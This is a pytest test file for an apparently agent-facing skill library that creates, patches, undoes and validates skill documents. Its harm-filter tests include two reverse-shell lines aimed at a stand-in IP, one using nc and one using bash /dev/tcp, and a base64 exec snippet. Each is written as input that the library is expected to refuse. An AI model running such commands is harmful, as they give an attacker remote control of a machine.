from __future__ import annotations

import os
from pathlib import Path

import pytest
from hermes_nb.skills import history
from hermes_nb.skills.discovery import Root
from hermes_nb.skills.document import DOCUMENT_LIMIT, SkillError, problems
from hermes_nb.skills.editing import SkillChange, diff, replaced
from hermes_nb.skills.history import SkillOrigin
from hermes_nb.skills.library import Library
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.skills.support import BODY, put, text


@pytest.fixture
def home(tmp_path):
    return tmp_path / "home" / "skills"


@pytest.fixture
def changed():
    return []


@pytest.fixture
def library(home, tmp_path, changed):
    roots = [Root(tmp_path / "work", "workdir"), Root(home, "home")]
    roots += [Root(tmp_path / "ext", "external"), Root(tmp_path / "shipped", "shipped")]
    return Library(roots, accepts=lambda *_: True, on_changed=changed.append)


def tree(root: Path):
    """Return the files of the skills, without the state beside them."""
    return {
        path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(root.rglob("*"))
        if path.is_file() and ".hermes_nb" not in path.parts
    }


def patch(library, old="axes", new="ticks", name="draw", **details):
    return library.manage("patch", name, old_string=old, new_string=new, **details)


def test_create(library, home, changed):
    origin = SkillOrigin(session="s1", turn=3)
    outcome = library.manage("create", "draw", content=text("draw"), category="data", origin=origin)
    assert outcome
    assert tree(home) == {"data/draw/SKILL.md": text("draw")}
    assert changed == [outcome]
    assert library.usage()["draw"].origin == origin
    assert library.usage()["draw"].made > 0
    for n in (1, 2):  # a number makes a difference
        assert library.manage("create", f"report-{n}", content=text(f"report-{n}", f"Report {n}."))
    assert library.manage("undo").name == "report-2"
    assert {skill.name for skill in library.list()} == {"draw", "report-1"}


@pytest.mark.parametrize(
    ("name", "details", "why"),
    [
        ("draw", {}, "needs `content`"),
        ("", {"content": text("")}, "no name"),
        ("../draw", {"content": text("../draw")}, "not a valid skill name"),
        ("draw", {"content": text("other")}, "its name is 'other'"),
        ("draw", {"content": "# Just prose"}, "begin with `---`"),
        ("draw", {"content": text("draw", body="x" * DOCUMENT_LIMIT)}, "the limit is"),
        ("draw", {"content": text("draw"), "category": "../up"}, "is not a valid category"),
        ("draw", {"content": text("draw", body="nc -e /bin/sh 203.0.113.9 80")}, "looks harmful"),
        ("draw", {"content": text("draw") + "\ud800"}, "surrogates"),
    ],
)
def test_what_is_not_created(library, home, changed, name, details, why):
    outcome = library.manage("create", name, **details)
    assert not outcome.applied
    assert why in outcome.message
    assert not home.exists() or tree(home) == {}
    assert changed == []


def test_near_duplicates_are_refused_with_the_existing_one_named(library, tmp_path):
    put(tmp_path / "shipped", "plot-csv-files", text("plot-csv-files", "Plots CSV files nicely."))
    steps = "\n".join(f"{n}. Do the step {n} with the tool {n * 7}." for n in range(20))
    put(tmp_path / "ext", "tidy", text("tidy", "Tidy up columns of tables.", body=steps))
    for name, description, body in (
        ("tidy", "Something else entirely.", BODY),
        ("csv-file-plotting", "Something else entirely.", BODY),
        ("plot-csv-fils", "Something else entirely.", BODY),
        ("show-tables", "Plotting of CSV files, nicely.", BODY),
        ("columns", "Tidy their columns and rows.", steps),
    ):
        outcome = library.manage("create", name, content=text(name, description, body))
        assert not outcome.applied, name
        assert "plot-csv-files" in outcome.message or "tidy" in outcome.message
    different = text("send-mail", "Writes and sends a letter.")
    assert library.manage("create", "send-mail", content=different)


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("absent", "x", "was not found"),
        ("Draw the axis.", "x", "The nearest passage"),
        ("", "x", "is empty"),
        (".", ".", "are the same"),
        (".", "!", "5 times"),
        ("name: draw", "name: other", "its name is 'other'"),
        ("description: Draws a chart from a table.\n", "", "0 characters"),
        ("\n---\n# How", "\n# How", "not closed"),
        ("from a table", "from: a table", "not valid YAML"),
        (BODY, "", "no text after the frontmatter"),
        ("Draw the axes.", "bash -i >& /dev/tcp/203.0.113.9/80 0>&1", "looks harmful"),
        ("Draw the axes.", "x\0", "NUL"),
    ],
)
def test_what_is_not_patched(library, home, old, new, why):
    put(home, "draw")
    outcome = patch(library, old, new)
    assert not outcome.applied
    assert why in outcome.message
    assert tree(home) == {"draw/SKILL.md": text("draw")}


@pytest.mark.parametrize(
    ("action", "details"),
    [
        ("edit", {"content": text("draw", body="# Other\n\nDo it so.\n")}),
        ("patch", {"old_string": "axes", "new_string": "lines"}),
        ("write_file", {"file_path": "references/a.md", "file_content": "mine"}),
        ("remove_file", {"file_path": "references/a.md"}),
        ("delete", {}),
    ],
)
def test_what_was_thought_for_another_text_is_refused(library, home, action, details):
    put(home, "draw", files={"references/a.md": "old"})
    seen = library.seen(SkillChange(action=action, name="draw", **details))
    assert len(seen) == 64
    path = home / "draw" / (details.get("file_path") or "SKILL.md")
    before = path.read_text()
    path.write_text(before + "\nMore.\n")
    assert "changed since" in library.manage(action, "draw", seen=seen, **details).message
    with pytest.raises(SkillError, match="changed since"):
        library.preview(action, "draw", seen=seen, **details)
    path.write_text(before)
    assert library.manage(action, "draw", seen=seen, **details).applied


def test_a_change_is_found_by_what_was_approved(library, home):
    put(home, "draw")
    assert not library.has_made("p1")
    assert patch(library, "axes", "lines", origin=SkillOrigin(session="s", proposal="p1"))
    assert library.has_made("p1")
    assert patch(library, "lines", "dots")
    assert library.has_made("p1")
    assert library.manage("undo", "draw")
    assert library.manage("undo", "draw")
    assert not library.has_made("p1")


def test_a_flaw_of_the_original_does_not_keep_its_body_from_being_patched(library, home):
    put(home, "draw", text("draw", "Use when: asked " + "x" * 1_030), category="data")
    assert patch(library, name="data/draw")
    assert not patch(library, "---\n# How", "# How").applied
    assert "ticks" in library.view("draw").text


@settings(max_examples=30)
@given(st.text(max_size=30), st.text(max_size=40), st.booleans())
def test_a_patched_document_is_valid_or_untouched(tmp_path_factory, old, new, everywhere):
    home = tmp_path_factory.mktemp("home")
    put(home, "draw")
    outcome = patch(Library([home]), old, new, replace_all=everywhere)
    after = (home / "draw/SKILL.md").read_bytes().decode()
    assert problems(after, name="draw") == []
    assert outcome.applied or after == text("draw")


@given(st.text(max_size=60), st.text(max_size=20), st.text(max_size=20), st.booleans())
def test_a_replacement_is_exact_or_refused(text, old, new, everywhere):
    try:
        edit = replaced(text, old, new, replace_all=everywhere)
    except SkillError:
        return
    plain, old, new = (part.replace("\r\n", "\n") for part in (text, old, new))
    assert edit.text.replace("\r\n", "\n") == plain.replace(old, new).replace("\r\n", "\n")
    assert edit.count == plain.count(old)


def test_edit_and_patch_keep_line_ends_and_say_what_they_did(library, home):
    put(home, "draw", text("draw").replace("\n", "\r\n"))
    outcome = patch(library, "Draw the axes.\n", "Plot.\n")
    assert "-2. Draw the axes." in outcome.diff
    after = (home / "draw/SKILL.md").read_bytes().decode()
    assert after == text("draw").replace("Draw the axes.", "Plot.").replace("\n", "\r\n")
    assert library.usage()["draw"].patches == 1
    new = text("draw", "Draws better.", "# New\n\none one\n")
    assert "Draws better" in library.manage("edit", "draw", content=new).diff
    assert patch(library, "one", "two", replace_all=True)
    assert tree(home) == {"draw/SKILL.md": new.replace("one", "two")}
    assert "no name" in library.manage("edit", "draw", content=text("")).message
    assert "no skill 'drwa'" in library.manage("edit", "drwa", content=new).message
    outcome = library.manage("edit", "draw", content=new, file_path="scripts/a.py")
    assert "use write_file" in outcome.message
    assert "write_file" in library.manage("rename", "draw").message
    long = "\n".join(map(str, range(5_000)))
    assert len(diff(long, long.replace("1", "one"), "SKILL.md")) < 3_200


def test_support_files(library, home):
    put(home, "draw")
    path = "references/deep/api.md"
    assert library.manage("write_file", "draw", file_path=path, file_content="one\n")
    assert patch(library, "one", "two", file_path=path)
    assert library.view("draw", path).text == "two\n"
    assert set(tree(home)) == {"draw/SKILL.md", f"draw/{path}"}
    assert library.manage("remove_file", "draw", file_path=path)
    assert "no file" in library.manage("remove_file", "draw", file_path=path).message
    assert "give `file_path`" in library.manage("write_file", "draw", file_content="x").message
    assert "file_content" in library.manage("write_file", "draw", file_path="assets/a").message
    large = library.manage("write_file", "draw", file_path="assets/a", file_content="é" * 600_000)
    assert "the limit is 1,048,576" in large.message
    harm = "import base64\nexec(base64.b64decode('eA=='))"
    refused = library.manage("write_file", "draw", file_path="scripts/a.py", file_content=harm)
    assert "looks harmful" in refused.message
    assert set(tree(home)) == {"draw/SKILL.md"}


def test_every_change_can_be_undone(library, home):
    steps = [
        ("create", {"content": text("draw"), "category": "data"}),
        ("patch", {"old_string": "axes", "new_string": "ticks"}),
        ("write_file", {"file_path": "scripts/a.py", "file_content": "print(1)\n"}),
        ("write_file", {"file_path": "scripts/a.py", "file_content": "print(2)\n"}),
        ("remove_file", {"file_path": "scripts/a.py"}),
        ("edit", {"content": text("draw", "Another.")}),
        ("delete", {}),
    ]
    states = []
    home.mkdir(parents=True)
    for action, details in steps:
        states.append(tree(home))
        assert library.manage(action, "draw", **details)
    assert not (home / "data").exists()
    for state in reversed(states):
        assert library.manage("undo", "draw")
        assert tree(home) == state
    assert "no change of 'draw' to undo" in library.manage("undo", "draw").message


def test_undo_does_not_destroy_what_somebody_else_wrote(library, home):
    put(home, "draw")
    assert patch(library)
    (home / "draw/SKILL.md").write_text(text("draw", body="By hand.\n"), encoding="utf-8")
    assert "changed by hand since" in library.manage("undo", "draw").message
    assert "By hand." in tree(home)["draw/SKILL.md"]
    assert library.manage("delete", "draw")
    put(home, "draw", text("draw", body="Back again.\n"))
    assert "has been created again" in library.manage("undo", "draw").message


def test_the_history_is_bounded(library, home, monkeypatch):
    monkeypatch.setattr(history, "RECORDS", 5)
    put(home, "draw", text("draw", body="0\n"))
    for n in range(12):
        assert patch(library, f"{n}\n", f"{n + 1}\n")
    assert len(list((home / ".hermes_nb/history").glob("*.json"))) <= 5
    monkeypatch.setattr(history, "BYTES", 1)
    assert patch(library, "12\n", "13\n")
    assert len(list((home / ".hermes_nb/history").iterdir())) <= 4


def test_a_damaged_history_is_passed_over(library, home):
    put(home, "draw")
    assert patch(library)
    folder = home / ".hermes_nb/history"
    record = next(folder.glob("*.json"))
    (folder / "9-1.json").write_text("{")
    forged = record.read_text().replace('"place": "draw"', '"place": "../../.."')
    (folder / f"{record.stem}x.json").write_text(forged.replace(record.stem, f"{record.stem}x"))
    assert "points outside" in library.manage("undo", "draw").message
    (folder / f"{record.stem}x.json").unlink()
    old = (home / "draw/SKILL.md").read_bytes()
    assert patch(library, "ticks", "lines")
    (home / "draw/SKILL.md").write_bytes(old)  # as a killed process leaves it: no change to undo
    assert library.manage("undo", "draw")
    assert tree(home)["draw/SKILL.md"] == text("draw")


def test_a_skill_from_elsewhere_is_copied_when_it_is_changed(library, home, tmp_path):
    files = {"scripts/a.py": "print(1)\n", "notes.md": "not part of it"}
    put(tmp_path / "shipped", "draw", category="data", files=files)
    original = tree(tmp_path / "shipped")
    assert "the user can turn it off" in library.manage("delete", "draw").message
    assert "in a copy" in patch(library).message
    assert tree(tmp_path / "shipped") == original
    assert set(tree(home)) == {"data/draw/SKILL.md", "data/draw/scripts/a.py"}
    assert library.get("draw").source == "home"
    assert "ticks" in library.view("draw").text
    assert "turn it off" not in library.manage("delete", "draw").message
    assert library.get("draw").source == "shipped"
    assert library.manage("remove_file", "draw", file_path="scripts/a.py")
    assert set(tree(home)) == {"data/draw/SKILL.md"}


def test_neither_the_working_directory_nor_what_a_link_leads_to_is_written(library, home, tmp_path):
    put(tmp_path / "work", "draw")
    assert "file tools" in patch(library).message
    home.mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (home / "data").symlink_to(tmp_path / "outside")
    outcome = library.manage("create", "mail", content=text("mail", "Sends."), category="data")
    assert "points outside" in outcome.message
    assert list((tmp_path / "outside").iterdir()) == []
    assert tree(home) == {}


def test_a_home_behind_a_link_works(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    library = Library([tmp_path / "link"])
    assert library.manage("create", "draw", content=text("draw"), category="data")
    assert patch(library)
    assert library.manage("undo")
    assert tree(tmp_path / "real") == {"data/draw/SKILL.md": text("draw")}


def test_what_a_killed_process_left_is_swept(library, home):
    orphan = put(home, "draw") / ".SKILL.md.x.hermes-tmp"
    orphan.write_text("half")
    stale = home / ".hermes_nb/building/1/draw"
    stale.mkdir(parents=True)
    assert patch(library)
    assert library.manage("create", "mail", content=text("mail", "Sends letters."))
    assert not orphan.exists()
    assert not stale.exists()


def test_without_a_home_nothing_is_written(tmp_path):
    put(tmp_path / "ext", "draw")
    library = Library([Root(tmp_path / "ext", "external")])
    assert "no Hermes directory" in patch(library).message
    assert "no Hermes directory" in library.manage("create", "mail", content=text("mail")).message


def test_a_failing_listener_does_not_undo_the_change(home, caplog):
    library = Library([home], on_changed=lambda _: 1 / 0)
    assert library.manage("create", "draw", content=text("draw"))
    assert "listener" in caplog.text


def test_previews_show_and_change_nothing(library, home, changed):
    put(home, "draw")
    before = tree(home)
    shown = library.preview("patch", "draw", old_string="axes", new_string="ticks")
    assert "-2. Draw the axes." in shown
    mail = text("mail", "Sends letters.")
    assert mail in library.preview("create", "mail", content=mail)
    assert "Draws a chart" in library.preview("delete", "draw")
    with pytest.raises(SkillError, match="was not found"):
        library.preview("patch", "draw", old_string="absent", new_string="x")
    with pytest.raises(SkillError, match="exists in home skills; patch"):
        library.preview("create", "draw", content=text("draw"))
    assert tree(home) == before
    assert changed == []


def test_everything_that_is_made_is_the_owners_alone(library, home):
    before = os.umask(0)
    try:
        library.manage("create", name="a", content=text("a"), category="code/python")
    finally:
        os.umask(before)
    made = [home.parent, *home.parent.rglob("*")]
    assert {oct(each.stat().st_mode & 0o077) for each in made} == {"0o0"}
